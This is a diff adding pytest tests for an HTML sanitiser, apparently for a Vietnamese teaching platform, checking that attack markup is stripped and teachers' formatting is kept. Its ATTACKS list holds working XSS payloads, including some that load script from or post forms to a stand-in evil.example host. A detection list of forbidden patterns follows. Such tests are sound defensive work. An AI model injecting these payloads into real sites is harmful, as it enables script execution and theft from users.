@@ -1,0 +1,61 @@
+"""Safe HTML: what attackers write goes, what teachers write stays, and cleaning twice changes nothing."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from core.html import clean_html, plain_text
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='https://evil.example/pixel.png'>",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
+    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
+    "<iframe src='//evil.example'></iframe>",
+    "<style>body{display:none}</style><p style='position:fixed'>x</p>",
+    "<form action='//evil.example'><input name=p><button>x</button></form>",
+    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<p><b onmouseover=alert(1)>x</b></p>",
+]
+FORBIDDEN = (
+    *("<script", "<svg", "<iframe", "<style", "<form", "<input", "style=", "javascript:", "text/html"),
+    *("onerror", "onload", "onmouseover", "evil.example/"),
+)
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_no_attack_survives(attack: str) -> None:
+    cleaned = clean_html(f"<p>trước</p>{attack}<p>sau</p>").lower()
+    assert not [word for word in FORBIDDEN if word in cleaned]
+    assert "trước" in cleaned
+
+
+@pytest.mark.parametrize(
+    "kept",
+    [
+        "<p>Chọn <strong>hai</strong> phương án <em>đúng</em>: H<sub>2</sub>O</p>",
+        '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
+        '<img src="media:abc.png" alt="Đồ thị">',
+        '<math display="inline"><mfrac><mn>1</mn><mn>2</mn></mfrac></math>',
+        "<p>1 &lt; 2 &amp; 3</p>",
+    ],
+)
+def test_what_teachers_write_stays_as_it_is(kept: str) -> None:
+    assert clean_html(kept) == kept
+
+
+@given(st.text(alphabet=st.sampled_from(list("<>/=\"'&;abimgscriptonerrj x:#x09-!")), max_size=80))
+def test_cleaning_twice_changes_nothing(text: str) -> None:
+    assert clean_html(clean_html(text)) == clean_html(text)
+
+
+def test_plain_text_is_words_on_one_line() -> None:
+    assert plain_text("<p>Một</p><p>hai<br>ba &amp; bốn</p>") == "Một hai ba & bốn"
